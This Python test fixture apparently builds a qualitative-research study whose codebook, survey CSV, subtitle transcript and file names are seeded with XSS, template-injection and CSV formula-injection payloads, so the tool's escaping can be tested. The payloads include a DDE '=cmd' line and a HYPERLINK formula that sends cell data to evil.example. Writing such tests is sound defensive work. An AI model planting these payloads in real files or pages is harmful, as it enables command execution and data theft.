"""A study in which everything that people may name or say is markup, a formula or worse."""

from __future__ import annotations

import csv
import io
import sys
from pathlib import Path

from qualcode.settings import Charter
from qualcode.workflow.code import code
from qualcode.workflow.ingest import IngestOptions, ingest
from qualcode.workflow.study import Study, create_study
from tests.codebook_sample import TEXT, WordCoder

__all__ = ["FORMULAS", "MARKUP", "SURVEY", "make_study"]

MARKUP = (
    '<script>window.owned=1</script><img src=x onerror="window.owned=1"> </script>'
    "<svg/onload=window.owned=1> {{7*7}} ${7*7} {% raw %} [here](javascript:alert(1)) "
    "![p](https://evil.example/p.png) javascript:alert(1) ]]> --> \" ' &amp; "
    "\u202eevil\u202c \u2066x\u2069 a\u200bb"
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"here")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u200b=1+1",
    "＝1+1",
    "'=1+1",
    '"=1+1"',
    "%0A=1+1",
    "=1+1\n=2+2",
)
SURVEY = "answers.csv"
_COLUMNS = ("id", "person", f"=1+1 {MARKUP}", "comment")


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _book() -> str:
    """Return the sample's book with markup in every text that a reader sees."""
    quoted = MARKUP.replace("'", "''")
    book = TEXT.replace("goal: Where can I leave the car?", f"goal: '{quoted}'")
    book = book.replace("statement: Show me the way.", f"statement: '=1+1 {quoted}'")
    book = book.replace("definition: It takes too long.", f"definition: '@SUM(1) {quoted}'")
    book = book.replace("name: Find a place", f"name: 'Find {quoted}'")
    book = book.replace('name: "Waiting"', f"name: '=1+1 {quoted}'")
    return book.replace("name: Clear signs", f"name: '-2+3 {quoted}'")


def _survey() -> str:
    out = io.StringIO()
    rows = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)
    rows.writerow(_COLUMNS)
    for number in range(36):
        formula = FORMULAS[number % len(FORMULAS)]
        words = ("looking for a sign", "a slow queue", "to pay is dear")[number % 3]
        said = f"{formula} I was {words} when I came. {MARKUP}"
        rows.writerow([f"{formula} {number}", f"{formula} {MARKUP} {number}", formula, said])
    return out.getvalue()


def _talk() -> str:
    name = _escaped("<img src=x onerror=window.owned=1>{{7*7}}")
    said = _escaped(f"{MARKUP} I was looking for a sign and the queue was slow.")
    cues = [
        f"00:{n:02}:01.000 --> 00:{n:02}:09.000\n<v {who}>{words}</v>\n"
        for n in range(0, 12, 2)
        for n, who, words in ((n, "Interviewer", "And then?"), (n + 1, name, said))
    ]
    return "WEBVTT\n\n" + "\n".join(cues)


def make_study(folder: Path) -> Path:
    """Make the study below a folder and return where it is."""
    folder.mkdir(parents=True, exist_ok=True)
    book = folder / "book.yaml"
    book.write_text(_book(), encoding="utf-8", newline="\n")
    (folder / SURVEY).write_text(_survey(), encoding="utf-8", newline="\n")
    # Windows has no such names.
    name = "talk" if sys.platform == "win32" else '=1+1<img src=x onerror="window.owned=1">{{7*7}}'
    (folder / f"{name}.vtt").write_text(_talk(), encoding="utf-8", newline="\n")
    charter = Charter(purpose=MARKUP, decision=f"=1+1 {MARKUP}", personas=(MARKUP,))
    with create_study(folder / "study", name=MARKUP, charter=charter, codebook=book) as study:
        options = IngestOptions(
            text_cols=("comment",),
            id_col="id",
            participant_col="person",
            attr_cols=(_COLUMNS[2],),
            masked=False,
        )
        report = ingest(study, [folder / SURVEY, folder / f"{name}.vtt"], options)
        assert [outcome.status for outcome in report.outcomes] == ["read", "read"], report
        code(study, WordCoder(study.codebook))
    return folder / "study"


def texts(study: Path) -> list[str]:
    """Return the canonical text of every document."""
    with Study(study) as opened:
        return [document.text for document in opened.repository.corpus().documents]
